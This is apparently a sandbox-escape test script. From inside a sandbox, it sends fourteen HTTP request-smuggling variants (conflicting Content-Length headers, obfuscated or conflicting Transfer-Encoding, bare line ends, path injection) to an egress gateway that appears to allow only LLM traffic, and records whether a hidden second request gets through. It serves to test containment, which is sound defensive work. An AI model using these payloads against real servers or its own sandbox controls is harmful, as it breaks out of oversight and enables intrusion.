# /// escape
# promise = "S2"
# trick = "It hides a second request in the body of its first: two lengths, pieces and a length, odd white space"
# network = "allow:llm"
# control = { local = ["rules of the gateway"], docker = ["rules of the gateway"] }
# limits = { wall_s = 40 }
# gets = 1
# ///
import re
import socket

from inside import got, refused, told

HIDDEN = b"GET /healthz HTTP/1.1\r\nHost: egress\r\n\r\n"
SIZE = len(HIDDEN)
BODY = b'{"model": "offline"}'
FIRST = "Host: egress\r\nContent-Type: application/json\r\n"
TRICKS = {
    "behind it": (f"Content-Length: {len(BODY)}", BODY + HIDDEN),
    "two lengths": (f"Content-Length: 0\r\nContent-Length: {SIZE}", HIDDEN),
    "two lengths, the other way": (f"Content-Length: {SIZE}\r\nContent-Length: 0", HIDDEN),
    "a list of lengths": (f"Content-Length: 0, {SIZE}", HIDDEN),
    "a length with a sign": ("Content-Length: +0", HIDDEN),
    "pieces and a length": (f"Transfer-Encoding: chunked\r\nContent-Length: {SIZE}", b"0\r\n\r\n" + HIDDEN),
    "a length and pieces": ("Content-Length: 5\r\nTransfer-Encoding: chunked", b"0\r\n\r\n" + HIDDEN),
    "pieces twice": ("Transfer-Encoding: chunked, chunked", b"0\r\n\r\n" + HIDDEN),
    "pieces, but not last": ("Transfer-Encoding: chunked, identity", b"0\r\n\r\n" + HIDDEN),
    "a space before the colon": ("Transfer-Encoding : chunked", b"0\r\n\r\n" + HIDDEN),
    "a folded line": ("Transfer-Encoding:\r\n chunked", b"0\r\n\r\n" + HIDDEN),
    "a bare line end": ("X: a\nTransfer-Encoding: chunked", b"0\r\n\r\n" + HIDDEN),
    "a piece too long": ("Transfer-Encoding: chunked", b"ffffffffffffffff0\r\n\r\n" + HIDDEN),
    "in the path": ("Content-Length: 0", HIDDEN),
}
for name, (lines, body) in TRICKS.items():
    for way, place in (("", "/llm/v1/messages"), (" by address", f"http://127.0.0.1:{told()['gateway']}/v1/messages")):
        said = b""
        with socket.socket(socket.AF_UNIX) as stream:
            stream.settimeout(3)
            try:
                stream.connect("/egress/socket")
                target = place + (" HTTP/1.1\r\nHost: egress\r\n\r\nGET /healthz" if name == "in the path" else "")
                stream.sendall(f"POST {target} HTTP/1.1\r\n{FIRST}{lines}\r\n\r\n".encode() + body)
                while part := stream.recv(65536):
                    said += part
            except OSError:
                pass
        answers = len(re.findall(rb"HTTP/1\.1 \d{3} ", said))
        (got if answers > 1 or b'"ok"' in said else refused)(name + way, said[:60])
